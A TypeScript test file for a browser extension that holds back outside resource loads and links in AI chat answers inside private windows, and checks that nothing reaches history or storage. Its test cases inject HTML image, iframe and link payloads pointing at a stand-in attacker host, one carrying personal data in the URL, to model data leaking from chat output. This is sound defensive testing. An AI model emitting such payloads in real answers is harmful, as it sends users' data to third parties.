import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser as ExtensionApis } from 'webextension-polyfill';
import { HISTORY_NAME } from '../../lib/browser/history-database';
import { findFirefox } from '../../scripts/find-browser.mjs';
import { waitUntil } from '../../scripts/drive/guarded-browser';
import { chatPage, openChatLab, type ChatLab, type ChatTab } from '../harness/chat-lab';

declare const chrome: ExtensionApis;

/** A chat in a private window, for persons who allow the extension there: guarded, and nothing of it is written down. */

const chat = 'https://chat.mistral.ai';
const attacker = 'https://attacker.example';
const names = findFirefox() ? (['chromium', 'firefox'] as const) : (['chromium'] as const);

describe.each(names)('a private window in %s', (name) => {
  let lab: ChatLab;
  /** In an ordinary window. Opened first: later Firefox would open it in the private one, which is on top. */
  let open: ChatTab;
  let tab: ChatTab;

  beforeAll(async () => {
    lab = await openChatLab(name, ({ hostname }) => (hostname === 'chat.mistral.ai' ? chatPage() : null), {
      isAllowedInPrivate: true,
    });
    await lab.change({ keepHistory: true });
    open = await lab.openChat(`${chat}/c/0`);
    tab = await lab.openPrivateChat(`${chat}/c/1`);
  });
  afterAll(() => lab.close());

  /** Addresses in the history, as text. */
  const written = () =>
    lab.browser.inExtension(async (database) => {
      const opening = indexedDB.open(database);
      const opened = await new Promise<IDBDatabase>((resolve, reject) => {
        opening.onsuccess = () => resolve(opening.result);
        opening.onerror = () => reject(new Error('not opened'));
      });
      const asked = opened.transaction('events').objectStore('events').getAll();
      const events = await new Promise<unknown>((resolve, reject) => {
        asked.onsuccess = () => resolve(asked.result);
        asked.onerror = () => reject(new Error('not read'));
      });
      opened.close();
      return JSON.stringify(events);
    }, HISTORY_NAME);

  it('holds what answers load, and follows a decision', async () => {
    expect(await lab.browser.inExtension(async (id) => (await chrome.tabs.get(id)).incognito, tab.id)).toBe(
      true,
    );
    lab.left();
    await tab.say(
      `<img src="${attacker}/private.png"><iframe sandbox srcdoc="<img src='${attacker}/frame.png'>"></iframe>`,
    );
    const [attempt] = await tab.attemptsAre((all) => all.length === 2);
    expect(lab.left()).toEqual([]);
    const picture = (await tab.attempts()).find(({ url }) => url.endsWith('/private.png')) ?? attempt;
    expect(await tab.decide(picture?.id, 'shown-once')).toBe(true);
    await waitUntil(
      async () => lab.left(),
      (all) => all.includes('attacker.example/private.png'),
    );
  });

  it('leads links by the page that asks', async () => {
    await tab.visit(`${chat}/c/2`);
    await tab.say(`<a id="go" href="${attacker}/?for=Jordan+Example+482913">An article</a>`);
    lab.left();
    await tab.click('#go');
    await waitUntil(
      tab.address,
      (href) => href.includes('/leaving.html#') || href.startsWith('chrome-error:'),
    );
    expect(lab.left()).toEqual([]);
  });

  it('writes nothing down: no history, no allowed host', async () => {
    await tab.visit(`${chat}/c/3`);
    await tab.say(`<img src="${attacker}/unwritten.png">`);
    const [attempt] = await tab.attemptsAre((all) => all.length === 1);
    expect(await tab.decide(attempt?.id, 'host-allowed')).toBe(false);
    expect(await lab.stored('local', 'settings')).toMatchObject({ allowedHosts: [] });

    // An attempt outside of private windows is written; when it stands there, the private ones would, too.
    await open.say(`<img src="${attacker}/written.png?for=Jordan+Example+482913">`);
    const history = await waitUntil(written, (text) => text.includes('written.png?'));
    expect(history).not.toContain('private.png');
    expect(history).not.toContain('unwritten.png');
  });

  it('leaves nothing in session storage when it is closed', async () => {
    await tab.close();
    const kept = () =>
      lab.browser.inExtension(async (id) => {
        const all = Object.keys(await chrome.storage.session.get(null));
        return all.filter((key) => key.endsWith(`:${id}`));
      }, tab.id);
    expect(await waitUntil(kept, (keys) => keys.length === 0)).toEqual([]);
  });
});
